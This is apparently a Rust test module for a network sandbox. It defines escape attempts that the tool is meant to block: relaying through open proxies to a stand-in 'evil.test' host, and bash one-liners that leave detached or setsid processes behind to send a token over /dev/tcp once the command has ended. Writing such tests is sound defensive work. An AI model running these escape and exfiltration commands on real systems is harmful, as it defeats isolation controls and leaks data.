//! Relays: what a granted host does with what it is sent is not ours to see, and named so in SECURITY.md; what stays
//! behind when the command has ended is.

use std::time::Duration;

use ringfence_testing::{Scene, Test};

use crate::attempt::{attempt, heard, on_machine};
use crate::row::{Row, drill};

pub(crate) fn rows() -> Vec<Row> {
    vec![
        attempt("relay-open-proxy", "goes anywhere through an open proxy of a granted host")
            .grant(["proxy.test:8888"])
            .python("escaped(greeting_on(*connect_through('proxy.test:8888', 'evil.test:4242')))")
            .denied("proxy.test")
            .row(),
        attempt("relay-other-port", "uses the open proxy of a host that is granted on another port")
            .grant(["proxy.test:443"])
            .python("escaped(greeting_on(*connect_through('proxy.test:8888', 'evil.test:4242')))")
            .denied("proxy.test")
            .row(),
        attempt("relay-upstream-proxy", "speaks to the machine's own upstream proxy directly")
            .grant(["good.test"])
            .python("escaped(greeting_on(*connect_through('192.0.2.80:8888', 'evil.test:4242')))")
            .row(),
        left_behind(
            "left-behind",
            "( sleep 0.7; exec 3<>/dev/tcp/echo.test/4242; echo {token} >&3; sleep 1 ) &",
        ),
        left_behind(
            "left-behind-session",
            "setsid sh -c 'setsid bash -c \"sleep 0.7; exec 3<>/dev/tcp/echo.test/4242; echo {token} >&3; sleep 1\" &' ",
        ),
        left_behind(
            "left-behind-connected",
            "exec 3<>/dev/tcp/echo.test/4242; ( trap '' HUP TERM; sleep 0.7; echo {token} >&3; sleep 1 ) &",
        ),
    ]
}

/// A process that outlives its command has no network any more, because it has no life any more.
fn left_behind(name: &str, script: &'static str) -> Row {
    let line = |scene: &Scene| {
        // Its output is its own, so that nobody waits for it.
        format!("{{ {}\n}} >/dev/null 2>&1 </dev/null; exit 0", script.replace("{token}", &scene.token))
    };
    drill(
        name,
        "leaves a process behind that sends the token when the command has ended",
        "in a session such a process may stay, and has what the session was granted",
        move |identity| {
            let (internet, scene) = (crate::internet(), Scene::new(identity));
            let test = Test::in_scene(&scene).profile("restrictive").args(["--allow-host", "echo.test:4242"]);
            let outcome = internet.machine.within(|| test.run(["bash", "-c", &line(&scene)]));
            if outcome.exit != 0 {
                return Err(outcome.describe());
            }
            std::thread::sleep(Duration::from_millis(1500));
            heard(internet, &scene.token).map_or(Ok(()), |how| Err(how.to_owned()))
        },
        move |identity| {
            let (internet, scene) = (crate::internet(), Scene::new(identity));
            // `timeout` would end it too: it takes a session of its own.
            let args = ["setsid", "-w", "bash", "-c", &line(&scene)].map(str::to_owned);
            let (text, errors) = on_machine(internet, &scene, &args);
            std::thread::sleep(Duration::from_millis(1500));
            heard(internet, &scene.token).map(|_| ()).ok_or(format!("nothing was heard: {text}{errors}"))
        },
    )
}
